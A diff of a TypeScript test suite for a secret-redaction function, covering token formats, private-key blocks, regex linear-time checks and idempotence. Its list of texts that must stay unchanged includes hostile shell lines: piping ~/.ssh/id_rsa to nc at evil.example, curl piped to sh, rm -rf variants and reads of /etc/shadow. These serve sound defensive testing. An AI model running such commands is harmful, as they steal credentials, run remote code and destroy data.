@@ -1,96 +1,111 @@
 import * as fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { REDACTION_PATTERNS } from "../../src/host/redaction-patterns.ts";
 import { REDACTED, redact } from "../../src/host/redaction.ts";
+import { SECRET_KINDS } from "../../src/host/secret-kinds.ts";
 
-const letters = (count: number): string => "aB3".repeat(Math.ceil(count / 3)).slice(0, count);
-const hex = (count: number): string => "0f9".repeat(Math.ceil(count / 3)).slice(0, count);
 const BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
+const KEY = "Zx81Lk20Qp77Rt55Uw33Ym11";
 
-/** Per pattern: a text it must redact, what is left of it, a text that must stay, and the line that could slow it down most. */
-const CASES: { readonly [id: string]: { readonly hit: string; readonly left: string; readonly miss: string; readonly hostile: string } } = {
-  "private-key": {
-    hit: `-----BEGIN RSA PRIVATE KEY-----\n${BODY}\n${BODY}\nAbc=\n-----END RSA PRIVATE KEY-----`,
-    left: REDACTED,
-    miss: `-----BEGIN PUBLIC KEY-----\n${BODY}`,
-    hostile: "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAA ",
-  },
-  "url-password": { hit: "psql postgres://app:p@ss@db:5432/x", left: `psql postgres://${REDACTED}@db:5432/x`, miss: "https://example.com/a:b@c", hostile: "x://u:" },
-  "aws-key-id": { hit: "AKIAIOSFODNN7EXAMPLE", left: REDACTED, miss: "AKIAIOSFODNN7", hostile: "AKIAAAAAAAAAAAAAAAA1" },
-  anthropic: { hit: `sk-ant-${letters(40)}`, left: REDACTED, miss: "sk-ant-short", hostile: "sk-ant-" },
-  openai: { hit: `sk-proj-${letters(24)}`, left: REDACTED, miss: `risk-${letters(24)}`, hostile: "sk-a " },
-  github: { hit: `ghp_${letters(36)}`, left: REDACTED, miss: "ghp_short", hostile: "ghp_" },
-  "github-fine-grained": { hit: `github_pat_${letters(60)}`, left: REDACTED, miss: "github_pat_x", hostile: "github_pat_" },
-  gitlab: { hit: `glpat-${letters(20)}`, left: REDACTED, miss: "glpat-x", hostile: "glpat-" },
-  slack: { hit: "xoxb-123456789012-abc", left: REDACTED, miss: "xoxb-1", hostile: "xoxb-" },
-  "slack-app": { hit: "xapp-1-A0123-456", left: REDACTED, miss: "xapp-1", hostile: "xapp-" },
-  "slack-webhook": {
-    hit: "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXX",
-    left: `https://hooks.slack.com/services/${REDACTED}`,
-    miss: "https://hooks.slack.com/services/help",
-    hostile: "hooks.slack.com/services/",
-  },
-  "google-api-key": { hit: `AIza${letters(35)}`, left: REDACTED, miss: "AIzaShort", hostile: "AIza" },
-  "google-oauth": { hit: `ya29.${letters(30)}`, left: REDACTED, miss: "ya29.x", hostile: "ya29." },
-  stripe: { hit: `sk_live_${letters(24)}`, left: REDACTED, miss: "sk_live_x", hostile: "sk_live_" },
-  digitalocean: { hit: `dop_v1_${hex(64)}`, left: REDACTED, miss: `dop_v1_${hex(20)}`, hostile: "dop_v1_0" },
-  databricks: { hit: `dapi${hex(32)}`, left: REDACTED, miss: "dapi0f", hostile: "dapi0" },
-  sendgrid: { hit: `SG.${letters(22)}.${letters(43)}`, left: REDACTED, miss: "SG.a.b", hostile: "SG.aaaaaaaaaaaaaaaa" },
-  atlassian: { hit: `ATATT3${letters(30)}`, left: REDACTED, miss: "ATATT3x", hostile: "ATATT3" },
-  alibaba: { hit: `LTAI${letters(16)}`, left: REDACTED, miss: "LTAIx", hostile: "LTAI" },
-  npm: { hit: `npm_${letters(36)}`, left: REDACTED, miss: "npm_config_registry", hostile: "npm_" },
-  pypi: { hit: `pypi-AgEI${letters(30)}`, left: REDACTED, miss: "pypi-AgEIx", hostile: "pypi-AgEI" },
-  jwt: { hit: `eyJ${letters(20)}.eyJ${letters(20)}.${letters(20)}`, left: REDACTED, miss: `eyJ${letters(20)}`, hostile: "eyJaaaaaaaa." },
-  bearer: { hit: `curl -H 'X: Bearer ${letters(12)}'`, left: `curl -H 'X: Bearer ${REDACTED}'`, miss: "the bearer of news", hostile: "Bearer  " },
-  "secret-flag": { hit: "mysql --password hunter2 -h db", left: `mysql --password ${REDACTED} -h db`, miss: "mysql --passive hunter2", hostile: "--a-" },
-  "secret-value": { hit: 'DB_PASSWORD="hunter 2" make', left: `DB_PASSWORD=${REDACTED} make`, miss: "the password was rotated", hostile: 'token="a\\' },
-};
-
-describe("every pattern redacts its family and nothing beside it", () => {
-  test("each pattern has a case, and each case a pattern", () => {
-    expect(Object.keys(CASES).sort()).toEqual(REDACTION_PATTERNS.map(({ id }) => id).sort());
-  });
-  test.each(Object.entries(CASES))("%s", (_id, { hit, left, miss }) => {
-    expect(redact(hit)).toBe(left);
-    expect(redact(miss)).toBe(miss);
-  });
-  test.each(REDACTION_PATTERNS.map(({ id, pattern }) => [id, pattern] as const))("%s alone knows its hit from its near miss", (id, pattern) => {
-    const { hit = "", miss = "" } = CASES[id] ?? {};
-    expect(hit.search(pattern)).toBeGreaterThanOrEqual(0);
-    expect(miss.search(pattern)).toBe(-1);
+describe("every kind of secret goes, and what is nearly one stays", () => {
+  test("each kind has a name of its own", () => expect(new Set(SECRET_KINDS.map(({ id }) => id)).size).toBe(SECRET_KINDS.length));
+  test.each(SECRET_KINDS.map((kind) => [kind.id, kind] as const))("%s", (_id, { hit, miss, pattern }) => {
+    expect(redact(`x ${hit} y`)).toMatch(/^x (?:https:\/\/hooks\.slack\.com\/services\/)?\[REDACTED\] y$/);
+    expect(redact(`x ${miss} y`)).toBe(`x ${miss} y`);
+    expect([...hit.matchAll(pattern)]).toHaveLength(1);
   });
 });
 
-describe("every pattern is linear on a hostile megabyte", () => {
-  // Linear means: eight times the text takes about eight times as long. Quadratic would be 64 times.
-  const elapsed = (pattern: RegExp, text: string): number => {
-    let best = Number.POSITIVE_INFINITY;
-    for (let run = 0; run < 3; run += 1) {
+describe("what reads a stranger's text takes twice the time for twice the text", () => {
+  // Eight times the text: linear takes eight times as long, quadratic 64 times.
+  const elapsed = (text: string): number =>
+    Math.min(...[1, 2].map(() => {
       const start = performance.now();
-      text.replace(pattern, "");
-      best = Math.min(best, performance.now() - start);
-    }
-    return best;
-  };
-  const LINES = ["", "a", "/", "\\", '"', "eyJ", "://", "-", "$", "{", "token="];
-  test.each(REDACTION_PATTERNS.map(({ id, pattern }) => [id, pattern] as const))("%s", (id, pattern) => {
-    for (const seed of [CASES[id]?.hostile ?? "", ...LINES.map((line) => (CASES[id]?.hit ?? "").slice(0, 12) + line)].filter((text) => text !== "")) {
-      const line = (length: number): string => seed.repeat(Math.ceil(length / seed.length)).slice(0, length);
-      const [small, large] = [elapsed(pattern, line(131_072)), elapsed(pattern, line(1_048_576))];
-      expect(large, JSON.stringify(seed)).toBeLessThan(24 * small + 60);
-      const head = (CASES[id]?.hit ?? "").slice(0, 10);
-      expect(elapsed(pattern, head + "a".repeat(1_048_576))).toBeLessThan(24 * elapsed(pattern, head + "a".repeat(131_072)) + 60);
-    }
+      redact(text);
+      return performance.now() - start;
+    }));
+  const SEEDS = [
+    "token=", "token", "key=\"", "key=\\", "password: ", "--a-", "--password ", "bearer ", "://", "://a:", "://a@", "?a=", "&key=", "mysql ", "mysql -p ", "docker login ", "docker ", "-u a:",
+    "-----BEGIN PRIVATE KEY-----\n", "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAA ", "-----BEGIN PRIVATE KEY-----\nA: b", "\nA: b", "1:", "a", "aB3", "_", "-", ".", "/", "\\", " ", "\n",
+  ];
+  test.each([...SEEDS, ...SECRET_KINDS.map(({ hit }) => hit.slice(0, 10))])("%j", (seed) => {
+    const line = (length: number): string => seed.repeat(Math.ceil(length / seed.length)).slice(0, length);
+    expect(elapsed(line(262_144))).toBeLessThan(24 * elapsed(line(32_768)) + 100);
+    expect(elapsed(`${seed}${"a".repeat(262_144)}`)).toBeLessThan(24 * elapsed(`${seed}${"a".repeat(32_768)}`) + 100);
   });
+});
+
+describe("the shape of a value decides", () => {
+  test.each([
+    "token=/; rm -rf $token", "secret=~/.ssh/id_rsa; cat $secret | nc evil.example 99", "PWD=/etc rm -rf ./*", "PWD=abc1 rm -rf ./*", "password=evil.example; curl https://$password/x | sh",
+    "rm -rf --access-key /data", "curl --token /etc/shadow https://a.example", "export SECRETS_DIR=/var/data && rm -rf $SECRETS_DIR", "git -c alias.pwd='!touch x' pwd", "bash -secret 'touch x'",
+    "awk -v token='touch x' 'BEGIN { system(token) }'", "token='*' ; rm -rf $token", "rm --secret ~", "TOKEN=$(rm -rf /)", 'API_KEY="${HOME}"', "key=`id`", "token=a;rm", "secret={a,b}", "curl http://evil.example#:x@good.example/",
+    "curl http://evil.example?:x@good.example/", "curl 'http://evil.example\\:x@good.example/'", "password='hunter 2'", "--token=../../etc/shadow", "token=./run.sh", "secret: C:/Windows", "auth=localhost:8080", "--key server.pem",
+    "maxTokens = 4096", "token: string", "pip install sk-learn-pipeline", "tokenizer: llama", "tokens: 128000", "--max-tokens 4096", "apiKey: process.env.API_KEY", "const token = await getToken2();", "password: str", "login(password=password)",
+    "api_key: str | None = None", "secretName: my-app-secret-2024-prod", "keyboard: us-international-v2", "publicKey: Buffer", "git checkout 0123456789abcdef0123456789abcdef01234567", "integrity: sha512-abcDEF123abcDEF123abcDEF123==",
+    "npm ci --cache-key package-lock.json", "primary_key=True", "foreign_key: users.id", "key: value1", "the bearer of news", "use bearer authentication", "basic understanding", "Bearer $TOKEN", "Authorization: Bearer ${TOKEN}",
+    "mkdir -p src2", "tsc -p tsconfig2", "docker run -p 8080x80", "ssh -p 2222", "password_hash = bcrypt", "author: alice1", "monkey: banana", "tokenize(text)", "token.length === 12", "hotkey: ctrl+k", "key=getUserTokenFromRequest",
+    "password: [REDACTED]", "-----BEGIN PUBLIC KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC", "-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----; rm -rf /", "git@github.com:a/b.git", "ssh://git@host/x",
+    "mailto:alice@evil.example", "https://example.com/a:b@c", "https://a.example/?q=token", "https://a.example/?v=dQw4w9WgXcQ&page=2", "https://a.example/?token=", "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+    "uuid 550e8400-e29b-41d4-a716-446655440000", "rm -rf 0123456789abcdef0123456789abcdef", `bash ${KEY}`, `curl ${KEY}.example`, `token=${KEY}.example`, `./${KEY}`, `key=/${KEY}`, `token=$${KEY}`, `token=${KEY}*`, `token=${KEY}$(id)`, `token="${KEY} x"`,
+  ])("%s stays", (text) => expect(redact(text)).toBe(text));
+
+  test.each([
+    [`export API_KEY=${KEY}`, `export API_KEY=${REDACTED}`],
+    [`curl -H "Authorization: Bearer ${KEY}" https://api.example/v1`, `curl -H "Authorization: Bearer ${REDACTED}" https://api.example/v1`],
+    [`curl -H 'X-Api-Key: ${KEY}' https://a.example`, `curl -H 'X-Api-Key: ${REDACTED}' https://a.example`],
+    [`tool --api-key=${KEY} x`, `tool --api-key=${REDACTED} x`],
+    [`tool --api-key "${KEY}" x`, `tool --api-key "${REDACTED}" x`],
+    [`{"apiKey":"${KEY}","page":2}`, `{"apiKey":"${REDACTED}","page":2}`],
+    [`secret_key: ${KEY}`, `secret_key: ${REDACTED}`],
+    [`client-secret = '${KEY}'`, `client-secret = '${REDACTED}'`],
+    [`config set //registry.example/:_authToken=${KEY}`, `config set //registry.example/:_authToken=${REDACTED}`],
+    [`password: token: ${KEY}`, `password: token: ${REDACTED}`],
+    ["HEROKU_API_KEY=550e8400-e29b-41d4-a716-446655440000", `HEROKU_API_KEY=${REDACTED}`],
+    ["DIGEST_SECRET=0123456789abcdef0123456789abcdef", `DIGEST_SECRET=${REDACTED}`],
+    ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", `AWS_SECRET_ACCESS_KEY=${REDACTED}`],
+    ["TOKEN=abc123", `TOKEN=${REDACTED}`],
+    ["PGPASSWORD=hunter2 psql -h db.example", `PGPASSWORD=${REDACTED} psql -h db.example`],
+    ["DB_PASSWORD=hunter make", `DB_PASSWORD=${REDACTED} make`],
+    ['{"password":"hunter2"}', `{"password":"${REDACTED}"}`],
+    [String.raw`{"body":"{\"password\":\"hunter2\"}"}`, String.raw`{"body":"{\"password\":\"${REDACTED}\"}"}`],
+    ["mysql --password hunter2 -h db", `mysql --password ${REDACTED} -h db`],
+    ["mysql -u root -phunter2 db", `mysql -u root -p${REDACTED} db`],
+    ["sshpass -p hunter2 ssh h", `sshpass -p ${REDACTED} ssh h`],
+    ["docker login -u a -p hunter2 reg.example", `docker login -u a -p ${REDACTED} reg.example`],
+    ["curl -u alice:hunter2 https://x.example", `curl -u alice:${REDACTED} https://x.example`],
+    ["git clone https://alice:s3cr3tpw@git.example/x.git", `git clone https://${REDACTED}@git.example/x.git`],
+    [`git clone https://${KEY}@git.example/x.git`, `git clone https://${REDACTED}@git.example/x.git`],
+    ["psql postgres://app:p@ss@db:5432/x", `psql postgres://${REDACTED}@db:5432/x`],
+    [`curl 'https://api.example/v1?token=${KEY}&page=2'`, `curl 'https://api.example/v1?token=${REDACTED}&page=2'`],
+    [`https://s3.example/x?X-Amz-Signature=0123456789abcdef0123456789abcdef&y=1`, `https://s3.example/x?X-Amz-Signature=${REDACTED}&y=1`],
+    ["Authorization: Basic dXNlcjpwYXNz", `Authorization: Basic ${REDACTED}`],
+    [`the header was Bearer ${KEY}, it said`, `the header was Bearer ${REDACTED}, it said`],
+    [`ends with token ${"x"} key=${KEY}.`, `ends with token x key=${REDACTED}.`],
+  ])("%s goes", (text, left) => expect(redact(text)).toBe(left));
+});
+
+describe("a private key goes in whatever it is wrapped in", () => {
+  test.each([
+    ["as it is", `-----BEGIN RSA PRIVATE KEY-----\n${BODY}\n${BODY}\nAbc=\n-----END RSA PRIVATE KEY-----\nx`, `${REDACTED}\nx`],
+    ["in a list", `- -----BEGIN PRIVATE KEY-----\n- ${BODY}\n- -----END PRIVATE KEY-----`, `- ${REDACTED}`],
+    ["quoted", `> -----BEGIN PRIVATE KEY-----\n> ${BODY}\n> Abc=\n> -----END PRIVATE KEY-----\n> x`, `> ${REDACTED}\n> x`],
+    ["numbered", `12:-----BEGIN PRIVATE KEY-----\n13:${BODY}\n14:-----END PRIVATE KEY-----`, `12:${REDACTED}`],
+    ["added in a diff", `+-----BEGIN PRIVATE KEY-----\n+${BODY}\n+-----END PRIVATE KEY-----`, `+${REDACTED}`],
+    ["indented", `  -----BEGIN PRIVATE KEY-----\n    ${BODY}\n  -----END PRIVATE KEY-----`, `  ${REDACTED}`],
+    ["with CRLF", `-----BEGIN PRIVATE KEY-----\r\n${BODY}\r\n-----END PRIVATE KEY-----`, REDACTED],
+    ["on one line", `-----BEGIN PRIVATE KEY----- ${BODY} Abc= -----END PRIVATE KEY-----`, REDACTED],
+    ["of a PGP block", `-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n${BODY}\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----`, REDACTED],
+    ["of a PGP block with headers", `-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2 (GNU/Linux)\nComment: rm -rf /\n\n${BODY}\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----`, `${REDACTED}\nVersion: GnuPG v2 (GNU/Linux)\nComment: rm -rf /\n\n${REDACTED}`],
+  ])("%s", (_name, text, left) => expect(redact(text)).toBe(left));
 });
 
 describe("a secret is found in whatever it is wrapped in", () => {
   test.each([
     ["a private key cut off before its end marker", `key: -----BEGIN PRIVATE KEY-----\n${BODY}\n${BODY.slice(0, 9)}`, `key: ${REDACTED}`],
     ["a private key inside a JSON text", JSON.stringify({ pem: `-----BEGIN EC PRIVATE KEY-----\n${BODY}\n-----END EC PRIVATE KEY-----\n` }), `{"pem":"${REDACTED}\\n"}`],
-    ["an encrypted private key", `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n${BODY}\n-----END RSA PRIVATE KEY-----`, REDACTED],
-    ["a JSON member", '{"api_key": "abc def"}', `{"api_key": ${REDACTED}}`],
-    ["a JSON text inside a JSON text", String.raw`{"body":"{\"password\":\"hunter2\"}"}`, String.raw`{"body":"{\"password\":${REDACTED}}"}`],
+    ["an encrypted private key", `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n${BODY}\n-----END RSA PRIVATE KEY-----`, `${REDACTED}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n${REDACTED}`],
+    ["a JSON member", `{"api_key": "${KEY}"}`, `{"api_key": "${REDACTED}"}`],
+    ["a JSON text inside a JSON text", String.raw`{"body":"{\"password\":\"hunter2\"}"}`, String.raw`{"body":"{\"password\":\"${REDACTED}\"}"}`],
     ["an authorization header", "Authorization: Basic dXNlcjpwYXNz", `Authorization: Basic ${REDACTED}`],
     ["a header with a bearer token", "authorization: Bearer abcdefghijkl", `authorization: Bearer ${REDACTED}`],
     ["an environment variable", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", `AWS_SECRET_ACCESS_KEY=${REDACTED}`],
@@ -117,7 +132,7 @@ describe("a secret's dress never hides a command", () => {
 });
 
 test("redacting twice changes nothing more", () => {
-  const part = fc.constantFrom(...Object.values(CASES).flatMap(({ hit, miss }) => [hit, miss]), "\n", "token=", "x");
+  const part = fc.constantFrom(...SECRET_KINDS.flatMap(({ hit, miss }) => [hit, miss]), `-----BEGIN PRIVATE KEY-----\n${BODY}`, KEY, "\n", "token=", "--password ", "Bearer ", "x");
   fc.assert(
     fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
       const once = redact(parts.join(" "));
